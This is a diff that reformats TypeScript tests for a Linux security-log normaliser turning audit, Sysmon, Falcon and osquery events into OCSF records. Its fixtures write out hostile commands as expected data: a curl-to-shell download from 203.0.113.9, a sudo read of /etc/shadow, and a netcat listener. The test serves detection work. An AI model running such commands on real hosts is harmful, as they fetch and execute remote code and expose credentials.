@@ -3,28 +3,56 @@ import { join } from 'node:path';
 import type { JsonObject, Normalised } from '../source.js';
 import { linux } from './index.js';
 
-const read = (bytes: Buffer): Normalised[] => linux.split(bytes).map((piece) => linux.normalise(JSON.parse(String(piece)) as JsonObject, piece));
+const read = (bytes: Buffer): Normalised[] =>
+  linux.split(bytes).map((piece) => linux.normalise(JSON.parse(String(piece)) as JsonObject, piece));
 const fixture = (name: string): Normalised[] => read(readFileSync(join(__dirname, 'fixtures', name)));
 const AT = Date.UTC(2026, 10, 2, 9, 20, 0, 250);
 
 describe('Linux', () => {
-  it.each([['Laurel', 0, AT + 40 * 60_000], ['Auditbeat', 1, AT], ['Sysmon', 2, AT]])('reads a process creation of %s', (_, index, occurredAt) => {
+  it.each([
+    ['Laurel', 0, AT + 40 * 60_000],
+    ['Auditbeat', 1, AT],
+    ['Sysmon', 2, AT],
+  ])('reads a process creation of %s', (_, index, occurredAt) => {
     const event = fixture('events.jsonl')[index];
     expect(event).toMatchObject({
       occurredAt,
       entity: 'host:web1.example.test',
       ocsf: {
-        categoryUid: 1, classUid: 1007, activityId: 1, device: { hostname: 'web1.example.test' },
-        actor: { userName: 'www-data', processName: 'dash', processPath: '/usr/bin/dash', commandLine: 'sh -c curl -s http://203.0.113.9/a | sh', pid: 4101 },
+        categoryUid: 1,
+        classUid: 1007,
+        activityId: 1,
+        device: { hostname: 'web1.example.test' },
+        actor: {
+          userName: 'www-data',
+          processName: 'dash',
+          processPath: '/usr/bin/dash',
+          commandLine: 'sh -c curl -s http://203.0.113.9/a | sh',
+          pid: 4101,
+        },
       },
     });
-    expect(event?.observables).toEqual(expect.arrayContaining([{ kind: 'hostname', value: 'web1.example.test' }, { kind: 'user-name', value: 'www-data' }, { kind: 'process-name', value: 'dash' }]));
+    expect(event?.observables).toEqual(
+      expect.arrayContaining([
+        { kind: 'hostname', value: 'web1.example.test' },
+        { kind: 'user-name', value: 'www-data' },
+        { kind: 'process-name', value: 'dash' },
+      ]),
+    );
   });
 
   it('takes audit records as text, those of one event together', () => {
     const events = fixture('audit.log');
     expect(events).toHaveLength(3);
-    expect(events[0]).toMatchObject({ occurredAt: 1_793_613_600_250, entity: 'host:unknown', ocsf: { classUid: 1007, message: 'execve: sh -c curl -s http://203.0.113.9/a | sh', actor: { processName: 'dash', pid: 4101 } } });
+    expect(events[0]).toMatchObject({
+      occurredAt: 1_793_613_600_250,
+      entity: 'host:unknown',
+      ocsf: {
+        classUid: 1007,
+        message: 'execve: sh -c curl -s http://203.0.113.9/a | sh',
+        actor: { processName: 'dash', pid: 4101 },
+      },
+    });
     expect(events[1]).toMatchObject({ ocsf: { classUid: 4001, activityId: 1, dst: { ip: '203.0.113.9', port: 80 } } });
     expect(events[1]?.observables).toContainEqual({ kind: 'ip-address', value: '203.0.113.9' });
     expect(events[2]).toMatchObject({ ocsf: { classUid: 3001, activityId: 1 } });
@@ -32,21 +60,51 @@ describe('Linux', () => {
 
   it('reads who tried to log on, and from where', () => {
     expect(fixture('events.jsonl')[3]).toMatchObject({
-      occurredAt: 1_793_611_200_250, entity: 'host:web1.example.test',
+      occurredAt: 1_793_611_200_250,
+      entity: 'host:web1.example.test',
       ocsf: { classUid: 3002, activityId: 1, actor: { userName: 'admin' }, src: { ip: '203.0.113.9', port: 52_144 } },
     });
   });
 
   it('reads a log line with its own time, and lines with JSON behind a header', () => {
-    expect(fixture('events.jsonl')[4]).toMatchObject({ occurredAt: AT, entity: 'host:web1.example.test', ocsf: { message: 'sudo: /usr/bin/cat /etc/shadow' } });
-    expect(read(Buffer.from('<13>Nov  2 10:00:00 web1 laurel: {"type":"EXECVE","a0":"id","hostname":"web1"}\n'))).toMatchObject([{ entity: 'host:web1', ocsf: { classUid: 1007 } }]);
-    expect(read(Buffer.from('Nov  2 10:00:00 web1 app[3]: broken {json\n'))).toMatchObject([{ entity: 'host:web1', ocsf: { classUid: 0 }, occurredAt: undefined }]);
+    expect(fixture('events.jsonl')[4]).toMatchObject({
+      occurredAt: AT,
+      entity: 'host:web1.example.test',
+      ocsf: { message: 'sudo: /usr/bin/cat /etc/shadow' },
+    });
+    expect(
+      read(Buffer.from('<13>Nov  2 10:00:00 web1 laurel: {"type":"EXECVE","a0":"id","hostname":"web1"}\n')),
+    ).toMatchObject([{ entity: 'host:web1', ocsf: { classUid: 1007 } }]);
+    expect(read(Buffer.from('Nov  2 10:00:00 web1 app[3]: broken {json\n'))).toMatchObject([
+      { entity: 'host:web1', ocsf: { classUid: 0 }, occurredAt: undefined },
+    ]);
   });
 
   it("reads agents' feeds, whose times are counted", () => {
-    const falcon = { aid: 'a1', ComputerName: 'host1', timestamp: '1793611200250', event_simpleName: 'ProcessRollup2', ImageFileName: '/usr/bin/nc', CommandLine: 'nc -l', UserName: 'ada' };
-    expect(linux.normalise(falcon, Buffer.from('{}'))).toMatchObject({ occurredAt: 1_793_611_200_250, entity: 'host:host1', ocsf: { classUid: 1007, actor: { userName: 'ada', processName: 'nc' } } });
-    const osquery = { name: 'process_events', hostIdentifier: 'host1', unixTime: 1_793_611_200, columns: { path: '/usr/bin/nc', cmdline: 'nc -l' } };
-    expect(linux.normalise(osquery, Buffer.from('{}'))).toMatchObject({ occurredAt: 1_793_611_200_000, entity: 'host:host1', ocsf: { classUid: 1007 } });
+    const falcon = {
+      aid: 'a1',
+      ComputerName: 'host1',
+      timestamp: '1793611200250',
+      event_simpleName: 'ProcessRollup2',
+      ImageFileName: '/usr/bin/nc',
+      CommandLine: 'nc -l',
+      UserName: 'ada',
+    };
+    expect(linux.normalise(falcon, Buffer.from('{}'))).toMatchObject({
+      occurredAt: 1_793_611_200_250,
+      entity: 'host:host1',
+      ocsf: { classUid: 1007, actor: { userName: 'ada', processName: 'nc' } },
+    });
+    const osquery = {
+      name: 'process_events',
+      hostIdentifier: 'host1',
+      unixTime: 1_793_611_200,
+      columns: { path: '/usr/bin/nc', cmdline: 'nc -l' },
+    };
+    expect(linux.normalise(osquery, Buffer.from('{}'))).toMatchObject({
+      occurredAt: 1_793_611_200_000,
+      entity: 'host:host1',
+      ocsf: { classUid: 1007 },
+    });
   });
 });
